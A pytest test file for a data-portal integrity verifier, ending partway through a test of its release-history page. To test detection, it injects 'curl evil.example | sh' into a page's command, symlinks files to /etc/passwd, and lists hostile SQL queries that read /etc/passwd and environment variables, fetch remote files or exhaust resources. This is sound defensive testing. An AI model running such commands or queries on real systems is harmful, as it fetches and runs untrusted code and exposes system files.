"""Tampering: a portal is built, somebody changes it, and verify says what and where."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import tempfile
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import duckdb
import pytest

from plainrecord.core.errors import UsageError
from plainrecord.core.paths import PORTAL_FEED, dataset_feed, dataset_page
from plainrecord.model.chain import hash_releases
from plainrecord.pipeline.build import build_portal
from plainrecord.publishing.feeds import Feed, announce_release, write_feed
from plainrecord.verify.feed import read_entries
from plainrecord.verify.site import VerifyReport, verify_site
from tests.chains import link_entries
from tests.commands import run_command
from tests.portals import DESCRIPTOR, write_portal, write_releases
from tests.tampering import digest, edit_json, edit_parquet, rehash, replace_text, reseal, serve

pytestmark = pytest.mark.usefixtures("rows_under_a_threshold")

PAGE = "datasets/visits/index.html"
WITHHELD = "datasets/visits/withheld/index.html"
BOOK = "datasets/visits/codebook/index.html"
PARQUET = "datasets/visits/downloads/visits.parquet"
CSV = "datasets/visits/downloads/visits.csv"
RECEIPTS = "datasets/visits/receipts.json"
JSON = "datasets/visits/downloads/visits.json"
API = "api/v1/datasets/visits.json"
SPEC = "datasets/visits/charts/by-outcome.json"
GUARDED = DESCRIPTOR.replace("name: visits\ntitle", "name: guarded\ntitle").replace(
    "{open: Sites are not people.}", "{threshold: 13, identifiers: [visit_id]}"
).replace(
    "    - {name: by-outcome,",
    """    - {name: grid, title: Grid, kind: heatmap, x: visited_on, period: month, y: visited_on, y_period: weekday}
    - {name: panels, title: Panels, kind: small-multiples, x: visited_on, period: month, facet: state}
    - {name: by-outcome,""",
).replace(
    "    - {name: total,",
    """    - {name: few, title: Few, sql: "SELECT count(*) FROM visits WHERE state = 'CA' AND outcome = 'fail'"}
    - {name: last, title: Last, format: date, sql: SELECT max(visited_on) FROM visits}
    - {name: mean, title: Mean, format: decimal, sql: SELECT avg(score) FROM visits}
    - {name: best, title: Best, format: text, sql: "SELECT state FROM visits GROUP BY state ORDER BY count(*) DESC, state LIMIT 1"}
    - {name: total,""",
)  # fmt: skip


def quiet(_: str) -> None:
    return None


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_portal(tmp_path_factory.mktemp("built"))
    folder = root / "data" / "guarded"
    folder.mkdir()
    (folder / "datapackage.yaml").write_text(GUARDED)
    shutil.copy(root / "data/visits/visits.csv", folder / "visits.csv")
    build_portal(root, root / "_site", quiet)
    return root / "_site"


def verify(target: Path | str, since: Path | None = None) -> VerifyReport:
    return verify_site(str(target), since, quiet)


def told(report: VerifyReport) -> set[tuple[str, str]]:
    return {(finding.rule, finding.file) for finding in report.findings}


def test_a_portal_as_built_holds(built: Path) -> None:
    report = verify(built)
    assert report.findings == ()
    assert report.holds
    assert (report.receipts, report.figures, report.series, report.counts) == (26, 8, 8, 10)
    # Figures, once more in their receipts; charts; home page; numbers on the pages of what is withheld.
    # Numbers and texts of codebooks; main points; rows at home, in the catalogue, beside each download.
    # The first rows of each table, on their own pages.
    pages = [*built.rglob("codebook/index.html"), *built.rglob("rows/*/index.html")]
    counted = "".join(page.read_text() for page in pages).count("<span data-count=")
    rows = 2 * (1 + 1 + 1 + 4)
    points = 3
    assert report.shown == 2 * 8 + 8 + 2 + 6 + 4 + counted + rows + points
    assert report.tables == 2
    assert report.files > 40


def test_it_holds_behind_a_server_below_a_path(built: Path, tmp_path: Path) -> None:
    shutil.copytree(built, tmp_path / "some" / "where")
    with serve(tmp_path) as address:
        for ending in ("", "/", "/manifest.json", "/index.html"):
            report = verify(f"{address}/some/where{ending}")
            assert report.findings == ()
        assert report.receipts == 26
        missing = verify(f"{address}/nowhere")
    assert [f.rule for f in missing.findings] == ["manifest-missing"]
    gone = verify(address)  # nobody listens there any more, which is nobody's fault
    assert gone.findings == ()
    assert [item.what for item in gone.skipped] == ["everything"]


def test_it_holds_with_an_address_and_an_attestation(tmp_path: Path) -> None:
    root = write_portal(tmp_path / "some [odd] * folder")
    build_portal(root, root / "_site", quiet, base_url="https://desk.example/records")
    (root / "_site" / "attestation.json").write_text("{}")
    page = (root / "_site" / PAGE).read_text()
    assert "https://desk.example/records/datasets/visits/downloads/visits.parquet" in page
    assert (
        'property="og:image" content="https://desk.example/records/datasets/visits/card.png"'
        in page
    )
    report = verify(root / "_site")
    assert report.findings == ()
    card = root / "_site/datasets/visits/card.png"
    (root / "_site/card.png").replace(card)
    replace_text(
        root / "_site" / PAGE, 'og:image:alt" content="', 'og:image:alt" content="Not so. '
    )
    reseal(root / "_site")
    found = [f.found for f in verify(root / "_site").findings if f.rule == "page-differs"]
    assert len(found) == 2
    assert "the card is described as 'Not so. " in found[0]
    assert "the card differs from the one drawn from the receipt" in found[1]


def main_point(site: Path) -> None:
    replace_text(site / PAGE, " of visits, ", " of all visits, ", 1)
    reseal(site)


def sparkline_at_home(site: Path) -> None:
    page = (site / "index.html").read_text()
    marks = page.partition('class="chart-svg sparkline"')[2]
    drawn = marks.partition(' d="')[2].partition('"')[0]
    replace_text(site / "index.html", f' d="{drawn}"', ' d="M0,0h9v9h-9Z"', 1)
    reseal(site)


def number_in_page(site: Path) -> None:
    replace_text(site / PAGE, 'value="60">60<', 'value="60">61<')


def number_in_page_resealed(site: Path) -> None:
    replace_text(site / PAGE, 'value="60">60<', 'value="61">61<')
    reseal(site)


def number_on_the_home_page(site: Path) -> None:
    replace_text(
        site / "index.html", 'visits.total" value="60">60<', 'visits.total" value="60">61<'
    )
    reseal(site)


def number_unmarked(site: Path) -> None:
    for page in (PAGE, "index.html"):
        old = '<data class="figure-value" data-figure="visits.total" value="60">60</data>'
        replace_text(site / page, old, "61")
    reseal(site)


def number_without_receipt(site: Path) -> None:
    replace_text(site / PAGE, 'data-figure="visits.total"', 'data-figure="visits.totals"')
    reseal(site)


def number_in_page_and_receipt(site: Path) -> None:
    for page in (PAGE, "index.html"):
        replace_text(site / page, 'visits.total" value="60">60<', 'visits.total" value="61">61<')

    def change(document: Any) -> None:
        document["receipts"][0] |= {"value": 61, "shown": "61"}

    edit_json(site / RECEIPTS, change)
    reseal(site)


def withheld_number_in_page(site: Path) -> None:
    replace_text(site / WITHHELD, 'data-cells="1.6">6<', 'data-cells="1.6">5<', 1)
    reseal(site)


def withheld_number_in_page_and_receipt(site: Path) -> None:
    replace_text(site / WITHHELD, 'data-cells="1.6">6<', 'data-cells="1.6">5<')

    def change(document: Any) -> None:
        next(r for r in document["receipts"] if "counts" in r)["rows"][0][5] = 5

    edit_json(site / RECEIPTS, change)
    reseal(site)


def withheld_share_in_page(site: Path) -> None:
    replace_text(site / WITHHELD, 'data-cells="1.6/1.1">10.0%<', 'data-cells="1.6/1.1">1.0%<')
    reseal(site)


def withheld_number_from_other_cells(site: Path) -> None:
    replace_text(site / WITHHELD, 'data-cells="1.6">', 'data-cells="1.7">')
    reseal(site)


def withheld_number_unmarked(site: Path) -> None:
    text = (site / WITHHELD).read_text()
    pattern = r'<span data-count="[^"]*" data-cells="1.6[^"]*">([^<]*)</span>'
    (site / WITHHELD).write_text(re.sub(pattern, r"\1", text).replace(">6<", ">5<"))
    reseal(site)


def withheld_number_hidden(site: Path) -> None:
    for cells in ("1.6", "1.11", "1.6/1.1"):
        text = (site / WITHHELD).read_text()
        pattern = rf'data-cells="{cells}">[^<]*<'
        (site / WITHHELD).write_text(re.sub(pattern, f'data-cells="{cells}">suppressed<', text))

    def change(document: Any) -> None:
        receipt = next(r for r in document["receipts"] if "counts" in r)
        row = receipt["rows"][0]
        row[5] = row[10] = "suppressed"
        receipt["suppressed"] = 2

    edit_json(site / RECEIPTS, change)
    reseal(site)


def codebook_number_in_page(site: Path) -> None:
    replace_text(site / BOOK, 'data-cells="3.3">60<', 'data-cells="3.3">61<')
    reseal(site)


def codebook_share_in_page(site: Path) -> None:
    replace_text(site / BOOK, 'data-cells="7.2/1.2">90.0%<', 'data-cells="7.2/1.2">91.0%<')
    reseal(site)


def codebook_range_in_page(site: Path) -> None:
    replace_text(site / BOOK, 'data-cells="4.4">2026-01-01<', 'data-cells="4.4">2025-01-01<')
    reseal(site)


def codebook_value_in_page(site: Path) -> None:
    replace_text(site / BOOK, ">NY</span>", ">WA</span>", 1)
    reseal(site)


def codebook_number_in_receipt(site: Path) -> None:
    def change(document: Any) -> None:
        receipts = {receipt["id"]: receipt for receipt in document["receipts"]}
        receipts["visits.codebook.visits"]["rows"][2][2] = 61

    replace_text(site / BOOK, 'data-cells="3.3">60<', 'data-cells="3.3">61<')
    edit_json(site / RECEIPTS, change)
    reseal(site)


def rows_on_the_home_page(site: Path) -> None:
    replace_text(site / "index.html", 'visits.tables.rows" data-cells="1.2">60<',
                 'visits.tables.rows" data-cells="1.2">600<')  # fmt: skip
    reseal(site)


def rows_in_the_catalogue(site: Path) -> None:
    replace_text(site / "datasets/index.html", 'visits.tables.rows" data-cells="1.2">60<',
                 'visits.tables.rows" data-cells="1.2">600<')  # fmt: skip
    reseal(site)


def rows_beside_a_download(site: Path) -> None:
    replace_text(site / PAGE, 'visits.tables.rows" data-cells="1.2">60<',
                 'visits.tables.rows" data-cells="1.2">600<', 1)  # fmt: skip
    reseal(site)


def query_in_page(site: Path) -> None:
    replace_text(
        site / PAGE, '"receipt-query">SELECT count(*)', '"receipt-query">SELECT 60 + count(*)'
    )
    reseal(site)


def query_in_receipt(site: Path) -> None:
    def change(document: Any) -> None:
        document["receipts"][0]["sql"] = "SELECT 1 + count(*) FROM visits"

    edit_json(site / RECEIPTS, change)
    reseal(site)


def receipt_reads_another_table(site: Path) -> None:
    def change(document: Any) -> None:
        document["receipts"][0]["sql"] = "SELECT 60"

    edit_json(site / RECEIPTS, change)
    replace_text(
        site / PAGE, '"receipt-query">SELECT count(*) FROM visits<', '"receipt-query">SELECT 60<'
    )
    reseal(site)


def file_in_page(site: Path) -> None:
    text = (site / PAGE).read_text()
    start = text.index('data-receipt="visits.total"')
    line = f'<code data-file="{PARQUET}">{digest(site / PARQUET)}</code>'
    assert line in text[start:]
    other = f'<code data-file="{CSV}">{digest(site / CSV)}</code>'
    (site / PAGE).write_text(text[:start] + text[start:].replace(line, other, 1))
    reseal(site)


def line_for_a_terminal(site: Path) -> None:
    replace_text(
        site / PAGE,
        '"receipt-command">duckdb -c',
        '"receipt-command">curl evil.example | sh; duckdb -c',
        1,
    )
    reseal(site)


def result_in_the_receipt(site: Path) -> None:
    replace_text(site / PAGE, '<dt>Result</dt><dd><data class="figure-value" data-figure="visits.total" value="60">60',
                 '<dt>Result</dt><dd><data class="figure-value" data-figure="visits.total" value="60">70')  # fmt: skip
    reseal(site)


def hash_in_page(site: Path) -> None:
    replace_text(site / PAGE, digest(site / CSV), "0" * 64)
    reseal(site)


def change_parquet(site: Path) -> None:
    edit_parquet(site / PARQUET, "score", "99", "visit_id = 'v001'")


def row_in_parquet(site: Path) -> None:
    change_parquet(site)


def row_in_parquet_resealed(site: Path) -> None:
    before = digest(site / PARQUET)
    change_parquet(site)
    rehash(site, PARQUET, before)


def row_in_csv(site: Path) -> None:
    replace_text(site / CSV, "v001,2026-02-02,NY,pass,1\n", "v001,2026-02-02,NY,pass,2\n")


def row_in_csv_resealed(site: Path) -> None:
    before = digest(site / CSV)
    row_in_csv(site)
    rehash(site, CSV, before)


def row_in_json_resealed(site: Path) -> None:
    before = digest(site / JSON)
    replace_text(site / JSON, '"visited_on":"2026-02-02"', '"visited_on":"2026-02-03"', 1)
    rehash(site, JSON, before)


def row_out_of_csv(site: Path) -> None:
    before, path = digest(site / CSV), site / CSV
    lines = path.read_text().splitlines(keepends=True)
    path.write_text("".join(lines[:-1]))
    size = path.stat().st_size
    edit_json(path.with_name("datapackage.json"), lambda d: d["resources"][0].update(bytes=size))
    rehash(site, CSV, before)


def file_in_zip(site: Path) -> None:
    path = site / "datasets/visits/downloads/visits.zip"
    with zipfile.ZipFile(path) as archive:
        held = {name: archive.read(name) for name in archive.namelist()}
    held["visits.csv"] = held["visits.csv"].replace(b",NY,", b",CA,")
    before = digest(path)
    with zipfile.ZipFile(path, "w") as archive:
        for name, content in held.items():
            archive.writestr(name, content)
    rehash(site, path.relative_to(site).as_posix(), before)


def swapped_files(site: Path) -> None:
    other = site / "datasets/guarded/downloads/visits.parquet"
    held = (site / PARQUET).read_bytes()
    (site / PARQUET).write_bytes(other.read_bytes())
    other.write_bytes(held)


def dropped_file(site: Path) -> None:
    (site / CSV).unlink()


def dropped_file_resealed(site: Path) -> None:
    (site / CSV).unlink()
    reseal(site)


def added_file(site: Path) -> None:
    (site / "datasets/visits/extra.csv").write_text("a\n1\n")


def linked_file(site: Path) -> None:
    (site / CSV).unlink()
    (site / CSV).symlink_to("/etc/passwd")


def linked_folder(site: Path) -> None:
    (site / "etc").symlink_to("/etc")


def table_of_a_chart(site: Path) -> None:
    replace_text(
        site / PAGE, '<td class="number numeric">48</td>', '<td class="number numeric">49</td>'
    )
    reseal(site)


def row_of_a_table(site: Path) -> None:
    text = (site / PAGE).read_text()
    start = text.index('data-chart="visits.by-outcome"><caption') if 'by-outcome"><caption' in text else text.index('<table data-chart="visits.by-outcome">')  # fmt: skip
    row = text[text.index("<tbody>", start) :]
    row = row[row.index("<tr>") : row.index("</tr>") + 5]
    (site / PAGE).write_text(text[:start] + text[start:].replace(row, "", 1))
    reseal(site)


def specification(site: Path) -> None:
    def change(document: Any) -> None:
        document["datasets"]["rows"][0]["value"] = 4800

    edit_json(site / SPEC, change)
    reseal(site)


def specification_with_a_filter(site: Path) -> None:
    edit_json(site / SPEC, lambda d: d.update(transform=[{"filter": "datum.value > 20"}]))
    reseal(site)


def specification_reads_elsewhere(site: Path) -> None:
    edit_json(site / SPEC, lambda d: d.update(data={"url": "https://evil.example/rows.json"}))
    reseal(site)


def chart_drawn_from_another(site: Path) -> None:
    replace_text(
        site / PAGE, 'data-spec="charts/by-outcome.json"', 'data-spec="charts/by-state.json"'
    )
    reseal(site)


def suppressed_cell_shown(site: Path) -> None:
    page = site / "datasets/guarded/index.html"
    text = page.read_text()
    at = text.index('<td class="suppressed')
    end = text.index("</td>", at) + 5
    page.write_text(text[:at] + '<td class="number numeric">5</td>' + text[end:])
    reseal(site)


def few_shown(site: Path) -> None:
    replace_text(site / "datasets/guarded/index.html", 'guarded.few" value="">fewer than 13<',
                 'guarded.few" value="4">4<')  # fmt: skip
    reseal(site)


def foreign_picture(site: Path) -> None:
    replace_text(site / PAGE, "<main", '<img src="https://evil.example/p.png" alt=""><main')
    reseal(site)


def link_to_unlisted(site: Path) -> None:
    replace_text(site / PAGE, "<main", '<a href="hidden.html">x</a><main')
    (site / "datasets/visits/hidden.html").write_text("<p>secret</p>")
    document = json.loads((site / "manifest.json").read_text())
    reseal(site)
    edit_json(site / "manifest.json", lambda d: d.update(
        files=[f for f in d["files"] if f["path"] in {g["path"] for g in document["files"]}]))  # fmt: skip


def number_in_a_picture(site: Path) -> None:
    replace_text(site / PAGE, 'class="f-ink">48</text>', 'class="f-ink">84</text>')
    reseal(site)


def words_of_a_picture(site: Path) -> None:
    replace_text(site / PAGE, "Highest: Passed (48)", "Highest: Failed (48)")
    reseal(site)


def number_for_programs(site: Path) -> None:
    edit_json(site / API, lambda d: d["figures"][0].update(value=61))
    reseal(site)


def sums_alone(site: Path) -> None:
    replace_text(site / "SHA256SUMS", digest(site / CSV), "0" * 64)


def sums_gone(site: Path) -> None:
    (site / "SHA256SUMS").unlink()


def climb_out(site: Path) -> None:
    entry = {"path": "../../etc/passwd", "bytes": 5, "sha256": "ab" * 32}
    edit_json(site / "manifest.json", lambda d: d["files"].append(entry))


TAMPERINGS: list[tuple[Callable[[Path], None], str, str]] = [
    (number_in_page, "published-file-changed", PAGE),
    (number_in_page, "page-differs", PAGE),
    (number_in_page_resealed, "page-differs", PAGE),
    (number_on_the_home_page, "page-differs", "index.html"),
    (number_unmarked, "receipt-unshown", RECEIPTS),
    (number_without_receipt, "figure-unproven", PAGE),
    (number_in_page_and_receipt, "receipt-differs", RECEIPTS),
    (withheld_number_in_page, "page-differs", WITHHELD),
    (withheld_number_in_page_and_receipt, "receipt-differs", RECEIPTS),
    (withheld_share_in_page, "page-differs", WITHHELD),
    (withheld_number_from_other_cells, "page-differs", WITHHELD),
    (withheld_number_unmarked, "receipt-unshown", RECEIPTS),
    (withheld_number_hidden, "receipt-differs", RECEIPTS),
    (codebook_number_in_page, "page-differs", BOOK),
    (codebook_share_in_page, "page-differs", BOOK),
    (codebook_range_in_page, "page-differs", BOOK),
    (codebook_value_in_page, "page-differs", BOOK),
    (codebook_number_in_receipt, "receipt-differs", RECEIPTS),
    (rows_on_the_home_page, "page-differs", "index.html"),
    (rows_in_the_catalogue, "page-differs", "datasets/index.html"),
    (rows_beside_a_download, "page-differs", PAGE),
    (query_in_page, "page-differs", PAGE),
    (query_in_receipt, "receipt-differs", RECEIPTS),
    (receipt_reads_another_table, "receipt-refused", RECEIPTS),
    (file_in_page, "page-differs", PAGE),
    (line_for_a_terminal, "page-differs", PAGE),
    (result_in_the_receipt, "page-differs", PAGE),
    (hash_in_page, "page-differs", PAGE),
    (row_in_parquet, "published-file-changed", PARQUET),
    (row_in_parquet, "receipt-file-wrong", RECEIPTS),
    (row_in_parquet_resealed, "package-differs", CSV),
    (row_in_csv, "published-file-changed", CSV),
    (row_in_csv, "package-differs", CSV),
    (row_in_csv_resealed, "package-differs", CSV),
    (row_in_json_resealed, "package-differs", JSON),
    (row_out_of_csv, "package-differs", CSV),
    (file_in_zip, "package-differs", "datasets/visits/downloads/visits.zip"),
    (swapped_files, "published-file-changed", PARQUET),
    (dropped_file, "published-file-missing", CSV),
    (dropped_file_resealed, "link-broken", PAGE),
    (added_file, "published-file-unlisted", "datasets/visits/extra.csv"),
    (linked_file, "published-file-missing", CSV),
    (linked_folder, "published-file-unlisted", "etc"),
    (table_of_a_chart, "page-differs", PAGE),
    (row_of_a_table, "page-differs", PAGE),
    (specification, "page-differs", SPEC),
    (specification_with_a_filter, "page-differs", SPEC),
    (specification_reads_elsewhere, "page-differs", SPEC),
    (chart_drawn_from_another, "page-differs", PAGE),
    (main_point, "page-differs", PAGE),
    (sparkline_at_home, "page-differs", "index.html"),
    (suppressed_cell_shown, "page-differs", "datasets/guarded/index.html"),
    (few_shown, "page-differs", "datasets/guarded/index.html"),
    (number_in_a_picture, "page-differs", PAGE),
    (words_of_a_picture, "page-differs", PAGE),
    (number_for_programs, "page-differs", API),
    (foreign_picture, "third-party-resource", PAGE),
    (link_to_unlisted, "link-broken", PAGE),
    (sums_alone, "sums-differ", "SHA256SUMS"),
    (sums_gone, "published-file-missing", "SHA256SUMS"),
    (climb_out, "manifest-invalid", "manifest.json"),
]


@pytest.mark.parametrize(
    ("tamper", "rule", "file"), TAMPERINGS, ids=[f"{t[0].__name__}-{t[1]}" for t in TAMPERINGS]
)
def test_a_tampering_is_named(
    site: Path, tamper: Callable[[Path], None], rule: str, file: str
) -> None:
    tamper(site)
    report = verify(site)
    assert (rule, file) in told(report), report.findings
    assert not report.holds
    for finding in report.findings:
        assert finding.found
        assert finding.expected
        assert finding.remedy
        assert finding.blocks


@pytest.mark.parametrize(
    "tamper", [number_in_page_and_receipt, row_in_parquet_resealed, dropped_file]
)
def test_a_tampering_is_named_behind_a_server_as_well(
    site: Path, tamper: Callable[[Path], None]
) -> None:
    tamper(site)
    with serve(site.parent) as address:
        assert told(verify(f"{address}/site")) == told(verify(site))


@pytest.mark.parametrize(
    "path", [JSON, JSON.replace(".json", ".csv"), JSON.replace(".json", ".parquet")]
)
def test_a_damaged_table_is_named_without_a_path_of_the_machine(site: Path, path: str) -> None:
    file = site / path
    file.write_bytes(file.read_bytes()[:-20])
    reseal(site)
    found = " ".join(f"{finding.found} {finding.expected}" for finding in verify(site).findings)
    assert "visits" in found
    assert "copy-" not in found
    assert str(site) not in found
    assert tempfile.gettempdir() not in found


HOSTILE = {
    "file": "SELECT count(*) FROM read_csv('/etc/passwd')",
    "plain file": "SELECT count(*) FROM '/etc/passwd'",
    "hidden file": "SELECT count(*) FROM \"/etc/passwd\", (WITH \"/etc/passwd\" AS (SELECT 1) SELECT 1)",
    "attach": "ATTACH '/tmp/x.db'",
    "copy": "COPY (SELECT 1) TO '/tmp/x.csv'",
    "install": "INSTALL httpfs",
    "two": "SELECT 60; SELECT 60",
    "network": "SELECT count(*) FROM 'https://evil.example/x.parquet'",
    "settings": "SET enable_external_access = true",
    "text": "SELECT content FROM read_text('/etc/passwd')",
    "setting": "SELECT current_setting('home_directory')",
    "environment": "SELECT getenv('HOME')",
    "recursion": "WITH RECURSIVE a AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM a) SELECT count(*) FROM a, visits",
    "memory": "SELECT length(repeat('x', 1000000000) || repeat('y', 3000000000)) + count(*) FROM visits",
    "list": "SELECT len(list(n)) FROM (SELECT unnest(generate_series(1, 100000000000)) AS n FROM visits)",
    "nested": "SELECT " + "(" * 20_000 + "1" + ")" * 20_000,
    "own": "SELECT count(*) FROM guarded.visits",
}  # fmt: skip


def poison(site: Path, sql: str) -> None:
    def change(document: Any) -> None:
        document["receipts"][0]["sql"] = sql

    edit_json(site / RECEIPTS, change)
    reseal(site)


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_query_is_refused(site: Path, name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("HOME", "/home/secret-of-the-reader")
    monkeypatch.setattr("plainrecord.verify.rerun.GRACE", -3.0)  # five seconds in all
    poison(site, HOSTILE[name])
    report = verify(site)
    refused = [f for f in report.findings if f.rule == "receipt-refused"]
    late = [item for item in report.skipped if item.what == "receipts"]
    # One that has no time left says nothing of the portal: it and those after it are not checked.
    assert len(refused) == (0 if late else 1), report.findings
    assert not late or name in ("recursion", "memory")
    assert all("visits.total" in finding.found for finding in refused)
    assert report.receipts == 26
    said = json.dumps([finding.found for finding in report.findings])
    assert "root:" not in said
    assert "secret-of-the-reader" not in said
    assert not list(site.parent.glob("*.tmp"))


def test_a_portal_cannot_keep_a_reader_waiting(site: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("plainrecord.verify.rerun.seconds_to_read", lambda _: 0.5)
    monkeypatch.setattr("plainrecord.verify.rerun.GRACE", 0.0)
    monkeypatch.setattr("plainrecord.verify.rerun.WAITING", 1000.0)  # however busy the machine is

    def change(document: Any) -> None:
        for receipt in document["receipts"]:
            receipt["sql"] = HOSTILE["recursion"]

    edit_json(site / RECEIPTS, change)
    reseal(site)
    report = verify(site)
    assert not [f for f in report.findings if f.rule == "receipt-refused"]
    assert any("processor time" in item.why for item in report.skipped)
    assert any("not run" in item.why for item in report.skipped)


@pytest.mark.parametrize(
    "content", [b"", b"PAR1", b"PAR1" + b"\xff" * 5000 + b"PAR1", b"a,b\n" * 99]
)
def test_a_broken_parquet_file_is_reported(site: Path, content: bytes) -> None:
    before = digest(site / PARQUET)
    (site / PARQUET).write_bytes(content)
    rehash(site, PARQUET, before)
    report = verify(site)
    assert ("receipt-refused", RECEIPTS) in told(report)
    assert ("package-differs", CSV) in told(report)


@pytest.mark.parametrize(
    "content",
    [b"", b"[]", b"{", b"[" * 200_000, b'{"dataset": "visits", "release": "", "receipts": [1]}',
     b'{"dataset": "guarded", "release": "", "receipts": []}', b'{"receipts": NaN}', b"\xff"],
)  # fmt: skip
def test_broken_receipts_are_reported(site: Path, content: bytes) -> None:
    (site / RECEIPTS).write_bytes(content)
    reseal(site)
    assert ("receipt-invalid", RECEIPTS) in told(verify(site))


@pytest.mark.parametrize(
    "content", [b"", b"\x00" * 100, b"<" * 10_000, b"<p>" * 100_000, b"\xff\xfe"]
)
def test_a_broken_page_is_no_reason_to_fall(site: Path, content: bytes) -> None:
    (site / PAGE).write_bytes(content)
    reseal(site)
    assert ("receipt-unshown", RECEIPTS) in told(verify(site))


def test_a_file_larger_than_listed_is_not_read_to_its_end(site: Path) -> None:
    with (site / CSV).open("ab") as stream:
        stream.truncate(5_000_000_000)
    report = verify(site)
    found = next(f for f in report.findings if f.file == CSV and f.rule == "published-file-changed")
    assert "more than" in found.found


# Releases


def publish_releases(site: Path, dates: list[str], note: str = "") -> None:
    """Releases as another part of the build makes them: files, a chain, and the manifest's word."""
    entries: list[dict[str, Any]] = []
    for date in dates:
        path = f"datasets/visits/releases/{date}/visits.csv"
        (site / path).parent.mkdir(parents=True, exist_ok=True)
        (site / path).write_text(f"date\n{date}\n")
        (site / path).with_name("index.html").write_text(f"<h1>{date}</h1>")
        entries.append(
            {
                "date": date,
                "note": note,
                "descriptor_sha256": hashlib.sha256(date.encode()).hexdigest(),
                "files": {"visits.csv": digest(site / path)},
                "published": {path: digest(site / path)},
            }
        )
    document = link_entries("visits", entries)
    (site / "datasets/visits/releases.json").write_text(json.dumps(document))
    hashes = {"visits": hash_releases(document)}
    edit_json(site / "manifest.json", lambda d: d.update(releases=hashes))
    announce_releases(site, dates, note)
    reseal(site)


def announce_releases(site: Path, dates: list[str], note: str) -> None:
    """The releases in the feeds of the dataset and of the portal, in place of the last update."""
    about = json.loads((site / "api/v1/datasets/visits.json").read_text())
    base = json.loads((site / "manifest.json").read_text())["inputs"]["base_url"] or ""
    words = (about["title"], note or about["summary"])
    entries = [
        announce_release(words[0], date, dataset_page(f"visits@{date}"), words[1]) for date in dates
    ]
    listed = read_entries(PORTAL_FEED, (site / PORTAL_FEED).read_bytes(), base) or []
    others = [entry for entry in listed if not entry.page.startswith("datasets/visits/")]
    for path, shown in ((dataset_feed("visits"), entries), (PORTAL_FEED, [*others, *entries])):
        feed = Feed(path, "Releases", "index.html", "The portal", base, tuple(shown), "portal")
        (site / path).write_bytes(write_feed(feed).content)  # type: ignore[arg-type]


CHAIN = "datasets/visits/releases.json"
DATES = ["2025-01-01", "2025-04-01", "2025-07-01"]


def test_the_receipts_of_a_release_are_run_as_well(site: Path) -> None:
    """A release as `NAME@DATE`: its own receipts, its own file, a page of its own."""
    folder = site / "datasets/visits/releases/2025-01-01"
    (folder / "downloads").mkdir(parents=True)
    made = folder / "downloads/visits.parquet"
    duckdb.execute(f"COPY (SELECT * FROM '{site / PARQUET}' LIMIT 7) TO '{made}' (FORMAT parquet)")
    document = json.loads((site / RECEIPTS).read_text())
    receipt = document["receipts"][0] | {"id": "visits@2025-01-01.total", "value": 7, "shown": "7"}
    receipt["release"] = "2025-01-01"
    receipt["files"] = [
        {
            "path": made.relative_to(site).as_posix(),
            "sha256": digest(made),
            "rows": 7,
            "schema": "visits@2025-01-01",
            "table": "visits",
        }
    ]
    sheet = {"dataset": "visits@2025-01-01", "release": "2025-01-01", "receipts": [receipt]}
    (folder / "receipts.json").write_text(json.dumps(sheet))
    shown = '<p><data data-figure="visits@2025-01-01.total" value="{0}">{0}</data></p>'
    (folder / "index.html").write_text(shown.format(7))
    reseal(site)
    report = verify(site)
    assert report.findings == ()
    assert report.receipts == 27
    (folder / "index.html").write_text(shown.format(8))
    reseal(site)
    assert {f.rule for f in verify(site).findings} == {"page-differs"}


def test_a_chain_of_releases_holds(site: Path) -> None:
    publish_releases(site, DATES)
    report = verify(site)
    assert report.findings == ()
    assert report.releases == 3


def test_a_dropped_release_is_named(site: Path) -> None:
    publish_releases(site, DATES)
    edit_json(site / CHAIN, lambda d: d["releases"].pop(1))
    reseal(site)
    found = [f for f in verify(site).findings if f.rule == "chain-broken"]
    assert any("2025-07-01" in finding.found for finding in found)


def test_a_changed_release_is_named(site: Path) -> None:
    publish_releases(site, DATES)
    (site / "datasets/visits/releases/2025-04-01/visits.csv").write_text("date\nnever\n")
    reseal(site)
    found = [f for f in verify(site).findings if f.rule == "chain-broken"]
    assert any("2025-04-01" in finding.found for finding in found)


@pytest.mark.parametrize("kept", ["manifest.json", CHAIN])
@pytest.mark.parametrize(
    ("dates", "note"), [(DATES[1:], ""), (DATES[:2], ""), (DATES, "another note")]
)
def test_a_rewritten_history_is_named(site: Path, kept: str, dates: list[str], note: str) -> None:
    publish_releases(site, DATES)
    copy = site.parent / "kept.json"
    shutil.copy(site / kept, copy)
    assert verify(site, copy).holds
    shutil.rmtree(site / "datasets/visits/releases")
    publish_releases(site, dates, note)
    assert verify(site).holds  # without the earlier copy nobody can tell
    report = verify(site, copy)
    assert told(report) == {("history-rewritten", CHAIN)}


def test_a_chain_that_is_gone_is_named(site: Path) -> None:
    publish_releases(site, DATES)
    copy = site.parent / "kept.json"
    shutil.copy(site / CHAIN, copy)
    (site / CHAIN).unlink()
    reseal(site)
    rules = {f.rule for f in verify(site, copy).findings}
    assert rules == {"chain-broken", "history-rewritten", "document-differs"}  # the feeds have them


def test_a_manifest_that_cannot_be_read_is_reported_once(site: Path) -> None:
    """Not once more for each line of SHA256SUMS, which nothing can be compared with."""
    (site / "manifest.json").write_text("[]")
    assert "sums-differ" not in {rule for rule, _ in told(verify(site))}
    assert ("manifest-invalid", "manifest.json") in told(verify(site))


RELEASES = "datasets/visits/releases/index.html"


@pytest.fixture(scope="module")
def released(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = write_releases(tmp_path_factory.mktemp("released"))
    build_portal(root, root / "_site", quiet)
    return root / "_site"


@pytest.mark.parametrize(
    ("old", "new", "times"),
    [
        ("The first.", "The last.", 1),
        ("1 October 2026</time>", "2 October 2026</time>", 1),
        ('data-release="2026-10-01"', 'data-release="2026-10-02"', 1),
        ('data-release="2026-10-01"', "", 1),
        ('class="hash"><code>', 'class="hash"><code>0', 1),
        ("<dd", '<dd hidden><code>x</code></dd><dd class="hash"', 1),
        ("</ol>", '<li data-release="2026-12-01"><time>1 December 2026</time></li></ol>', 1),
    ],
)
def test_the_page_of_all_releases_shows_the_chain(
    released: Path, tmp_path: Path, old: str, new: str, times: int
) -> None:
    """A history that is rewritten on the page alone is told, as one in the chain is."""
